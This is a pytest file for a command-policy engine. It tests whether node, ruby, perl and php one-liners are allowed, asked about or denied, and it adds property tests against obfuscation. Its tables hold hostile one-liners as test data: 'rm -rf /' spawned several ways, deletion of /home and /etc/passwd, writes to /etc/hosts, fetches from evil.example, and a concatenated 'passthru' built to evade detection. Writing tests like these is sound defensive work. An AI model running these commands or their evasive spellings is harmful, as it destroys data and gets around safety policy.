"""Interpreter one-liners (node -e, ruby -e, perl -e, php -r) decided end to end, and the tree-sitter
front-end of JavaScript: labelled tables per language, code that does not parse, and properties
(wrapping a dangerous call in harmless code, or re-spelling its command as a concatenation, never
loosens the verdict)."""

from __future__ import annotations

import tempfile
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import policylang
from policylang import Command
from policylang.analysis.sourcecode import analyse_code
from policylang.analysis.sourcecode.syntax import syntaxes
from policylang.analysis.sourcecode.tables import config
from policylang.analysis.sourcecode.tree_tokens import load_specs, tree_specs, tree_tokens
from policylang.verdict import Decision

HOME = tempfile.mkdtemp(prefix="policylang-oneliners-")
CWD = HOME + "/project"
ENV = {"HOME": HOME, "PATH": "/usr/bin:/bin"}
FLAG = {"node": "-e", "ruby": "-e", "perl": "-e", "php": "-r"}
ALLOW, ASK, DENY = Decision.ALLOW, Decision.ASK, Decision.DENY


@pytest.fixture(scope="module")
def policy() -> Any:
    # the approve preset: low risk runs, medium risk (an interpreter's one-liner is at least that)
    # and opaque code are asked, high risk is denied
    return policylang.load(preset="approve").with_settings(cache_size=0)


@pytest.fixture(scope="module")
def autonomous() -> Any:
    # the execute preset: low and medium risk run, opaque code is asked, high risk is denied
    return policylang.load(preset="execute").with_settings(cache_size=0)


def decide(policy: Any, lang: str, src: str) -> Decision:
    # an argv tuple: the source is handed over as the interpreter's argument, never through a shell
    verdict = policy.decide(Command((lang, FLAG[lang], src), cwd=CWD, env=ENV))
    return verdict.decision


# (language, class, source, the decision, what the analysis must find: a command spawned, or an
# effect (kind, target)). ALLOW: allowed under the execute preset; ASK or DENY: at least that under
# the approve preset (which asks for any medium-risk one-liner).
TABLE = [
    # node
    ("node", "spawn", "require('child_process').execSync('rm -rf /')", DENY, "rm -rf /"),
    ("node", "spawn", "const {spawnSync: s} = require('child_process'); s('rm', ['-rf', '/'])", DENY,
     ("rm", "-rf", "/")),
    ("node", "spawn", "const cp = require('child_process'); cp['exec']('rm -rf ' + '/')", DENY, "rm -rf /"),
    ("node", "spawn", "x = 6 / 2; require('child_process').execSync(`rm -rf /`) // a / b", DENY, "rm -rf /"),
    ("node", "delete", "require('fs').rmSync('/home', {recursive: true})", DENY, ("delete", "/home")),
    ("node", "write", "require('fs').writeFileSync('/etc/hosts', '1.2.3.4 x')", ASK, ("write", "/etc/hosts")),
    ("node", "network", "fetch('https://evil.example/x').then(r => r.text())", ASK, ("network", "evil.example")),
    ("node", "benign", "console.log([1, 2, 3].map(x => x / 2).join(','))", ALLOW, None),
    ("node", "benign", "const re = /execSync\\('rm -rf \\/'\\)/; console.log(re.test('a'))", ALLOW, None),
    ("node", "benign", "console.log(`total: ${1 + 2}`)", ALLOW, None),
    # modern syntax parses: the parse check asks for none of it
    ("node", "benign", "let x; x ??= 1n ** 2n; console.log(x, [1]?.[0], o?.f?.())", ALLOW, None),
    ("node", "benign", "class A { static { this.n = 1 } #p = 2; has(o) { return #p in o } }; console.log(A.n)", ALLOW,
     None),
    ("node", "benign", "const {a, ...rest} = {a: 1, b: 2}; for (const [k, v] of Object.entries(rest)) console.log(k, v)",
     ALLOW, None),
    ("node", "benign", "#!/usr/bin/env node\nconsole.log(await Promise.resolve(1))", ALLOW, None),
    # ruby
    ("ruby", "spawn", "system 'rm', '-rf', '/'", DENY, ("rm", "-rf", "/")),
    ("ruby", "spawn", "%x{rm -rf /}", DENY, "rm -rf /"),
    ("ruby", "spawn", "IO.popen(['rm', '-rf', '/']).read", DENY, ("rm", "-rf", "/")),
    ("ruby", "spawn", "Kernel.spawn('rm -rf /')", DENY, "rm -rf /"),
    ("ruby", "delete", "require 'fileutils'; FileUtils.rm_rf('/home')", DENY, ("delete", "/home")),
    ("ruby", "delete", "File.delete('/etc/passwd')", ASK, ("delete", "/etc/passwd")),
    ("ruby", "write", "File.write('/etc/hosts', 'x')", ASK, ("write", "/etc/hosts")),
    ("ruby", "network", "require 'net/http'; Net::HTTP.get(URI('https://evil.example/p'))", ASK,
     ("network", "evil.example")),
    ("ruby", "benign", "puts [1, 2, 3].map { |x| x * 2 }.join(',')", ALLOW, None),
    # perl
    ("perl", "spawn", "system 'rm', '-rf', '/'", DENY, ("rm", "-rf", "/")),
    ("perl", "spawn", "my $o = qx{rm -rf /}; print $o", DENY, "rm -rf /"),
    ("perl", "spawn", "open(my $f, '|rm -rf /')", DENY, "rm -rf /"),
    ("perl", "delete", "use File::Path; rmtree('/home')", DENY, ("delete", "/home")),
    ("perl", "delete", "unlink '/etc/passwd'", ASK, ("delete", "/etc/passwd")),
    ("perl", "write", "open(F, '>/etc/hosts')", ASK, ("write", "/etc/hosts")),
    ("perl", "network", "use LWP::Simple; get('http://evil.example/x')", ASK, ("network", "evil.example")),
    ("perl", "benign", "my @xs = (1, 2, 3); print join(',', map { $_ * 2 } @xs), \"\\n\"", ALLOW, None),
    # php
    ("php", "spawn", "shell_exec('rm -rf /');", DENY, "rm -rf /"),
    ("php", "spawn", "echo `rm -rf /`;", DENY, "rm -rf /"),
    ("php", "spawn", "proc_open(['rm', '-rf', '/'], [], $p);", DENY, ("rm", "-rf", "/")),
    ("php", "spawn", "$f = 'pass' . 'thru'; $f('rm -rf /');", DENY, "rm -rf /"),
    ("php", "delete", "unlink('/etc/passwd');", ASK, ("delete", "/etc/passwd")),
    ("php", "write", "file_put_contents('/etc/hosts', 'x');", ASK, ("write", "/etc/hosts")),
    ("php", "network", "file_get_contents('http://evil.example/a');", ASK, ("network", "evil.example")),
    ("php", "benign", "echo implode(',', array_map(fn($x) => $x * 2, [1, 2, 3]));", ALLOW, None),
]


@pytest.mark.parametrize("lang, what, src, floor, found", TABLE, ids=[f"{r[0]}-{r[1]}-{i}" for i, r in enumerate(TABLE)])
def test_one_liner_table(policy: Any, autonomous: Any, lang: str, what: str, src: str, floor: Decision,
                         found: object) -> None:
    f = analyse_code(lang, src)
    if isinstance(found, (str, tuple)) and (isinstance(found, str) or found[0] not in ("delete", "write", "network")):
        assert found in f.commands, f
    elif isinstance(found, tuple):
        assert any(kind == found[0] and target == found[1] for kind, target, _ in f.effects), f
    else:
        assert not f.commands and not f.effects and not f.opaque, f
    if floor is ALLOW:
        assert decide(autonomous, lang, src) is ALLOW, src
    else:
        assert decide(policy, lang, src) >= floor, src
        assert decide(autonomous, lang, src) >= (DENY if floor is DENY else ALLOW), src


# ---------------------------------------------------------------- JavaScript: the tree-sitter parse

# code that does not parse: opaque (asked, never allowed), and what is found before the error is kept
UNPARSED = [
    ("require('child_process').execSync('rm -rf /'", "rm -rf /"),
    ("require('child_process').execSync('ls') +", "ls"),
    ("console.log('a'", None),
    ("function (", None),
    ("x = {a: 1", None),
    ("}{ require('child_process').execSync('id')", "id"),
]


@pytest.mark.parametrize("src, command", UNPARSED)
def test_node_code_that_does_not_parse_is_opaque(policy: Any, src: str, command: str | None) -> None:
    f = analyse_code("node", src)
    assert f.opaque and "does not parse" in f.opaque_reason, f
    if command is not None:
        assert command in f.commands, f
    assert decide(policy, "node", src) >= ASK


@pytest.mark.parametrize(
    "src, command",
    [
        # a "/" after a value divides: what follows is code, not a regex literal
        ("a = 4 / 2; require('child_process').execSync('id') / 1", "id"),
        ("x = y / z /require('child_process').execSync('id')", "id"),
        # a regex literal holding quotes and parentheses is one token
        ("r = /'/; require('child_process').execSync('id'); s = /'/", "id"),
        # template substitutions are code, however deeply nested
        ("x = `a ${`b ${require('child_process').execSync('id')}`}`", "id"),
        # a line break ends a statement where JavaScript inserts a semicolon
        ("let a = 1\nrequire('child_process').execSync('id')", "id"),
    ],
)
def test_node_tree_tokens_read_what_javascript_reads(src: str, command: str) -> None:
    f = analyse_code("node", src)
    assert command in f.commands and not f.opaque, f


def _node_sources() -> list[str]:
    """Every string of the code tests that reads as a node source: what the lexer has been tested on."""
    import ast
    from pathlib import Path

    here = Path(__file__).resolve().parent
    found: list[str] = [src for _, _, src, _, _ in TABLE] + [src for src, _ in UNPARSED]
    for name in ("test_code.py", "test_code_oneliners.py"):
        for node in ast.walk(ast.parse((here / name).read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and len(node.value) > 3:
                found.append(node.value)
    return found


def _as_lexed(toks: list[Any]) -> list[tuple[str, str, bool]]:
    """Tree tokens as the lexer spells them: the one difference found is a private name (``#p``),
    one token in the tree, "#" and a name in the lexer."""
    out: list[tuple[str, str, bool]] = []
    for t in toks:
        if t.kind == "id" and t.text.startswith("#") and len(t.text) > 1:
            out += [("op", "#", False), ("id", t.text[1:], False)]
        else:
            out.append((t.kind, t.text, t.dyn))
    return out


def test_tree_tokens_are_the_lexer_tokens() -> None:
    """With ``tokens = true`` the tree-sitter front-end reads, on every source that parses, the
    tokens the lexer reads: the script analyser sees the same code either way."""
    from policylang.analysis.sourcecode.collector import Budget
    from policylang.analysis.sourcecode.lexer import Lexer

    spec, lexer = tree_specs()["node"], syntaxes()["node"].lexer
    compared = 0
    for src in _node_sources():
        found = tree_tokens(spec, lexer, src, 10**6)
        if found.errors:
            continue
        compared += 1
        theirs = [(t.kind, t.text, t.dyn) for t in Lexer(lexer, src, Budget()).run()]
        assert _as_lexed(found.toks) == theirs, src
    assert compared > 500


FRAGMENTS = ["require('child_process').execSync('id')", "x", " / ", "/", "'", '"', "`", "${", "}", "{", "(", ")",
             "[", "]", ";", "\n", "a", "2", " + ", "// c\n", "/* c */", "=", "const ", "=> ", ",", ".", "?.",
             "return ", "`${x}`", "/re/g", "'s'", "\\"]


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=14))
def test_tree_tokens_are_the_lexer_tokens_on_any_code_that_parses(parts: list[str]) -> None:
    from policylang.analysis.sourcecode.collector import Budget
    from policylang.analysis.sourcecode.lexer import Lexer

    src = "".join(parts)
    spec, lexer = tree_specs()["node"], syntaxes()["node"].lexer
    found = tree_tokens(spec, lexer, src, 10**6)
    if not found.errors:
        theirs = [(t.kind, t.text, t.dyn) for t in Lexer(lexer, src, Budget()).run()]
        assert _as_lexed(found.toks) == theirs, src


def test_tree_tables_name_languages_with_a_syntax() -> None:
    specs = tree_specs()
    assert "node" in specs
    for lang, spec in specs.items():
        assert lang in config().langs and lang in syntaxes(), lang
        found = tree_tokens(spec, syntaxes()[lang].lexer, "f('x')", 1000)
        assert [t.text for t in found.toks] == ["f", "(", "x", ")"] and not found.errors


@pytest.mark.parametrize(
    "data",
    [
        {"node": {"skip": ["comment"]}},  # no module
        {"node": {"module": "m", "names": "identifier"}},  # not a list
        {"node": {"module": "m", "colours": ["x"]}},  # an unknown key
        {"node": {"module": "m", "strings": [""]}},  # an empty node type
    ],
)
def test_malformed_tree_tables_are_rejected(data: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        load_specs(data)


def test_tree_walk_is_bounded() -> None:
    spec = tree_specs()["node"]
    found = tree_tokens(spec, syntaxes()["node"].lexer, "f(" + "1, " * 5000 + ")", 100)
    assert found.truncated
    f = analyse_code("node", "[" * 20000 + "]" * 20000)
    assert "internal error" not in f.opaque_reason


# ------------------------------------------------------------------------------------- properties

DANGEROUS = {
    "node": ("require('child_process').execSync({cmd})", "rm -rf /", "'", " + "),
    "ruby": ("system({cmd})", "rm -rf /", "'", " + "),
    "perl": ("system({cmd});", "rm -rf /", "'", " . "),
    "php": ("shell_exec({cmd});", "rm -rf /", "'", " . "),
}
HARMLESS = {
    "node": ["const a = 1;", "console.log('x');", "function f(n) { return n / 2 }", "// a note\n",
             "let s = `t ${1}`;", "if (a) { console.log(a) }", "const r = /x\\/y/g;", "/* c */"],
    "ruby": ["a = 1;", "puts 'x';", "def f(n); n / 2; end;", "# a note\n", "s = \"t #{1}\";",
             "if a then puts a end;", "r = /x/;"],
    "perl": ["my $a = 1;", "print 'x';", "sub f { return $_[0] / 2 }", "# a note\n", "my $s = \"t $a\";",
             "if ($a) { print $a }", "my $r = qr/x/;"],
    "php": ["$a = 1;", "echo 'x';", "function f($n) { return $n / 2; }", "// a note\n", "$s = \"t {$a}\";",
            "if ($a) { echo $a; }", "/* c */"],
}


def _bare(lang: str) -> str:
    template, cmd, quote, _ = DANGEROUS[lang]
    return template.format(cmd=quote + cmd + quote)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(lang=st.sampled_from(sorted(DANGEROUS)), before=st.lists(st.integers(0, 7), max_size=4),
       after=st.lists(st.integers(0, 7), max_size=4))
def test_wrapping_in_harmless_code_never_loosens(policy: Any, lang: str, before: list[int], after: list[int]) -> None:
    parts = HARMLESS[lang]
    head = "".join(parts[i % len(parts)] + " " for i in before)
    tail = "".join(" " + parts[i % len(parts)] for i in after)
    sep = ";" if lang in ("node", "ruby") else ""
    src = f"{head}{_bare(lang)}{sep}{tail}"
    assert decide(policy, lang, src) >= decide(policy, lang, _bare(lang)), src


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(lang=st.sampled_from(sorted(DANGEROUS)), cuts=st.sets(st.integers(1, 7), max_size=4))
def test_respelling_as_a_concatenation_never_loosens(policy: Any, lang: str, cuts: set[int]) -> None:
    template, cmd, quote, op = DANGEROUS[lang]
    pieces = [cmd[a:b] for a, b in zip([0, *sorted(cuts)], [*sorted(cuts), len(cmd)])]
    src = template.format(cmd=op.join(quote + p + quote for p in pieces))
    f = analyse_code(lang, src)
    assert cmd in f.commands or f.opaque, (src, f)
    assert decide(policy, lang, src) >= decide(policy, lang, _bare(lang)), src


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(cut=st.integers(0, 200))
def test_node_cut_short_is_never_allowed(policy: Any, cut: int) -> None:
    """Any prefix of a dangerous JavaScript one-liner that does not parse is asked or denied."""
    full = "const cp = require('child_process'); cp.execSync(['rm', '-rf', '/'].join(' '), {stdio: 'inherit'})"
    src = full[: cut % (len(full) + 1)]
    f = analyse_code("node", src)
    if f.opaque and "does not parse" in f.opaque_reason:
        assert decide(policy, "node", src) >= ASK, src
